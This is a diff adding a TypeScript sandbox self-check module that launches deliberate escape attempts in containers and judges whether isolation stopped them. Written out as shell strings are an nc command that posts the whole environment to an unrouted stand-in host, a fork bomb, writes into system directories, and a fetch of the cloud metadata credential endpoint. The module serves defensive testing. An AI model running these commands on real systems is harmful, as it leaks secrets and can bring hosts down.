@@ -1,0 +1,157 @@
+import { spawnSync } from "node:child_process";
+import type Dockerode from "dockerode";
+import type { LaunchSpec } from "../components/spec/launch";
+import {
+  HTTP_GET,
+  judgeProbe,
+  type ProbeReport,
+  parseProbeOutput,
+  probeScript,
+} from "../components/spec/probe";
+import type { Template } from "../components/spec/template";
+import type { Launcher, TaskResult } from "./launcher";
+
+/** The metadata address every cloud serves credentials from. */
+export const METADATA_URL = "http://169.254.169.254/latest/meta-data/";
+
+/**
+ * Where the exfiltration check sends the environment: an address in TEST-NET-3 (RFC 5737), which is never
+ * routed. The task has no route off the machine anyway; this makes sure that even a broken wall reaches nothing.
+ */
+export const EXFIL_URL = "http://203.0.113.7/collect";
+
+/** Longest an escape check may run, whatever the template's own deadline. */
+export const ESCAPE_TIMEOUT_SECONDS = 15;
+
+/** Runs the self-check inside a task of the template and judges every wall, declared vs observed. */
+export async function runProbe(
+  launcher: Launcher,
+  spec: LaunchSpec,
+  template: Template,
+  id?: string,
+): Promise<{ report: ProbeReport; result: TaskResult }> {
+  const egressUrl =
+    spec.egress.mode === "proxy" ? `http://${spec.egress.allow[0]?.replace(/^\*\./, "")}/` : METADATA_URL;
+  const script = probeScript({ jobFolder: spec.jobFolder.containerPath, egressUrl });
+  const result = await launcher.run(
+    { ...spec, timeoutSeconds: Math.min(spec.timeoutSeconds, 60) },
+    { ...(id ? { id } : {}), command: ["sh", "-c", script], removeJobDir: true },
+  );
+  return { report: judgeProbe(template, parseProbeOutput(result.stdout)), result };
+}
+
+/** The four escapes the field guides name. */
+export type EscapeCheck = "exfiltrate-env" | "write-outside-job" | "fork-bomb" | "metadata";
+export const ESCAPE_CHECKS: readonly EscapeCheck[] = [
+  "exfiltrate-env",
+  "write-outside-job",
+  "fork-bomb",
+  "metadata",
+];
+
+/** The verdict on one escape attempt. */
+export interface EscapeResult {
+  readonly check: EscapeCheck;
+  /** True when the attempt failed, as it must. */
+  readonly blocked: boolean;
+  /** The wall that stopped it. */
+  readonly blockedBy: string;
+  /** What was observed, in a line. */
+  readonly evidence: string;
+  /** Objects of the task still on the engine afterwards (must be none). */
+  readonly leftovers: readonly string[];
+}
+
+function networkWall(spec: LaunchSpec): string {
+  return spec.network === "none"
+    ? "no network (networkMode none: no interface but loopback)"
+    : `internal network ${spec.network}: no route off the machine, only the allowlist proxy`;
+}
+
+const SCRIPTS: Record<EscapeCheck, string> = {
+  "exfiltrate-env": [
+    HTTP_GET,
+    'names="$(env | cut -d= -f1 | sort | tr "\\n" " ")"',
+    'payload="$(env)"',
+    `status="$( { printf 'POST /collect HTTP/1.0\\r\\nHost: 203.0.113.7\\r\\nContent-Length: %s\\r\\n\\r\\n' "$(printf %s "$payload" | wc -c)"; printf %s "$payload"; } | nc -w 3 203.0.113.7 80 2>&1 | head -n 1)"`,
+    'echo "escape.names=$names"',
+    'echo "escape.status=$status"',
+  ].join("\n"),
+  "write-outside-job": [
+    "for d in / /etc /usr /bin /sbin /lib /var /root /home /opt /srv /run; do",
+    '  if ( : > "$d/.escape-write" ) 2>/dev/null; then rm -f "$d/.escape-write"; echo "escape.wrote=$d"; else echo "escape.denied=$d"; fi',
+    "done",
+  ].join("\n"),
+  "fork-bomb": [
+    "bomb() { bomb | bomb & }",
+    "bomb",
+    "sleep 3",
+    'echo "escape.pids=$(cat /sys/fs/cgroup/pids.current /sys/fs/cgroup/pids/pids.current 2>/dev/null | head -n 1)"',
+  ].join("\n"),
+  metadata: [HTTP_GET, `echo "escape.status=$(http_get '${METADATA_URL}')"`].join("\n"),
+};
+
+function lines(stdout: string, key: string): string[] {
+  return stdout
+    .split("\n")
+    .filter((l) => l.startsWith(`escape.${key}=`))
+    .map((l) => l.slice(key.length + 8).trim());
+}
+
+/** Runs one escape attempt as a task of the template and judges whether a wall stopped it. */
+export async function runEscape(
+  launcher: Launcher,
+  docker: Dockerode,
+  spec: LaunchSpec,
+  check: EscapeCheck,
+  id?: string,
+): Promise<EscapeResult> {
+  const result = await launcher.run(
+    { ...spec, timeoutSeconds: Math.min(spec.timeoutSeconds, ESCAPE_TIMEOUT_SECONDS) },
+    { ...(id ? { id } : {}), command: ["sh", "-c", SCRIPTS[check]], removeJobDir: true },
+  );
+  const leftovers = (
+    await docker.listContainers({ all: true, filters: { label: [`sandbox.task=${result.id}`] } })
+  ).map((c) => c.Names[0] ?? c.Id);
+  switch (check) {
+    case "exfiltrate-env":
+    case "metadata": {
+      const status = lines(result.stdout, "status")[0] ?? "";
+      const blocked = !status.startsWith("HTTP/");
+      const names = lines(result.stdout, "names")[0];
+      return {
+        check,
+        blocked,
+        blockedBy: blocked ? networkWall(spec) : "nothing: a server answered",
+        evidence:
+          (blocked ? `no HTTP answer${status ? ` (${status})` : ""}` : `answered: ${status}`) +
+          (names === undefined ? "" : `; the environment held only: ${names}`),
+        leftovers,
+      };
+    }
+    case "write-outside-job": {
+      const wrote = lines(result.stdout, "wrote");
+      const denied = lines(result.stdout, "denied");
+      const blocked = wrote.length === 0 && denied.length > 0;
+      return {
+        check,
+        blocked,
+        blockedBy: blocked ? "read-only root filesystem" : "nothing",
+        evidence: blocked ? `every write was refused (${denied.join(" ")})` : `wrote to ${wrote.join(" ")}`,
+        leftovers,
+      };
+    }
+    case "fork-bomb": {
+      // The host must still be able to start a process while and after the bomb ran.
+      const hostForks = spawnSync("true").status === 0;
+      const blocked = result.limits.includes("pids") && hostForks;
+      return {
+        check,
+        blocked,
+        blockedBy: blocked ? `pids limit (pids.max=${spec.resources.pids})` : "nothing",
+        evidence: `limits hit: ${result.limits.join(", ") || "none"}; processes at the end: ${lines(result.stdout, "pids")[0] ?? "unknown"}; host can fork: ${hostForks}`,
+        leftovers,
+      };
+    }
+  }
+}
